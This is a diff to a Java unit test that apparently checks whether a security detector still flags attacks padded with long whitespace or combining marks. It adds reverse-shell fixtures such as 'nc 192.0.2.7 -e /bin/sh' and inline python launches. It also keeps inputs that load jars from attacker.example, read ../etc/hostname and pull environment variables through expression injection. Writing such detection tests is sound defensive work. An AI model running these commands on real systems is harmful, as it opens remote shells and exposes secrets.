@@ -37,11 +37,14 @@ class PaddedTextTest {
   private static final String CLASS = "Class Loaded from the Network";
   private static final String TYPE = "Expression Holding a Type Reference, from a Request";
   private static final String SHELL = "Shell or Download Tool Started by the Application";
+  private static final String ENCODED = "Encoded or Inline Script Started";
+  private static final String REVERSE = "Command Line of a Reverse Shell";
   private static final String MARKS = "'" + "\u0301".repeat(600) + "'";
 
   static Stream<Arguments> longTexts() {
     String blanks = " ".repeat(4_000);
     String manyBlanks = " ".repeat(10_000);
+    String path = "a".repeat(2_100) + ".jar!/";
     return Stream.of(
         arguments(FETCHED, entity(blanks + "http://attacker.example/a")),
         arguments(FETCHED, entity("jar:" + blanks + "url:http://attacker.example/a.jar!/b")),
@@ -52,6 +55,12 @@ class PaddedTextTest {
         arguments(READ, entity(blanks + "../etc/hostname")),
         arguments(CLASS, loaded("jar:" + blanks + "http://attacker.example/a.jar!/b/")),
         arguments(CLASS, loaded(cut("jar:" + manyBlanks + "http://attacker.example/a.jar!/b/"))),
+        arguments(CLASS, loaded(cut("jar:" + manyBlanks + "http://attacker.example/" + path))),
+        arguments(FETCHED, entity(cut(manyBlanks + "http://attacker.example/" + path))),
+        arguments(ENCODED, started("python3" + " -B".repeat(2_500) + " -c x")),
+        arguments(ENCODED, started(MARKS + " python3 -c x")),
+        arguments(REVERSE, started("nc ".repeat(2_700) + "-e /bin/sh")),
+        arguments(REVERSE, started(MARKS + "\nnc 192.0.2.7 -e /bin/sh")),
         arguments(TYPE, script(MARKS + ".concat(T(java.lang.System).getenv())")),
         arguments(TYPE, script(MARKS + ".concat(T(System).getenv())")),
         arguments(
